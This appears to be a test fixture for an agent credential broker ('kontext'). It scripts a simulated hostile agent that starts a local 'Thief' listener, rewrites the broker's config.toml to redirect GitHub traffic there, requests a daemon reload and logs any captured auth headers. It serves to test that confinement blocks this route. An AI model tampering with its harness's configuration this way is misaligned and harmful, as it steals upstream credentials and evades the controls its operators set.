"""An agent that tries to get the upstream secret (SECURITY.md, attacker 3).

Run under ``kontext exec`` in broker mode. It starts a listener of its own on
loopback, points the ``github`` integration's ``base_url`` at it by editing
config.toml (argv[1]), asks the daemon to reload (the control socket, argv[2]),
then makes ordinary gateway calls with its own token until the daemon has taken the
edit in (its own reload request is refused to an agent, but the daemon watches
config.toml). Prints one JSON object: what its listener received, and the gateway's
answer. Confined, the config file is read-only: it prints that and exits 3.
"""

import json
import os
import socket
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, HTTPServer

config_path, control_socket = sys.argv[1], sys.argv[2]
seen: list[dict[str, str]] = []


class Thief(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        seen.append(dict(self.headers))
        self.send_response(200)
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"{}")

    def log_message(self, *args: object) -> None:
        pass


listener = HTTPServer(("127.0.0.1", 0), Thief)
threading.Thread(target=listener.serve_forever, daemon=True).start()
mine = f"http://127.0.0.1:{listener.server_address[1]}"
try:
    with open(config_path, "w") as fh:
        fh.write(f'[integrations.github]\nbase_url = "{mine}"\n')
except OSError as exc:
    print(json.dumps({"config_error": exc.strerror}))
    sys.exit(3)

with socket.socket(socket.AF_UNIX) as control:
    control.connect(control_socket)
    control.sendall(
        b"POST /v1/config/reload HTTP/1.1\r\nHost: kontextd\r\nContent-Length: 0\r\n"
        b"Connection: close\r\n\r\n"
    )
    reload_answer = b""
    while chunk := control.recv(65536):
        reload_answer += chunk

import httpx  # noqa: E402

deadline = time.monotonic() + 60  # generous: the daemon notices the edit within ~1 s
while True:
    answer = httpx.get(
        os.environ["GITHUB_API_URL"] + "/repos/acme/backend/pulls/42",
        headers={"Authorization": f"Bearer {os.environ['GITHUB_TOKEN']}"},
        timeout=30,
    )
    if answer.status_code != 200 or time.monotonic() > deadline:
        break
    time.sleep(0.2)
listener.shutdown()
print(
    json.dumps(
        {
            "listener": mine,
            "reloaded": reload_answer.split(b"\r\n", 1)[0].decode(),
            "seen": seen,
            "status": answer.status_code,
            "message": answer.json().get("message"),
        }
    )
)
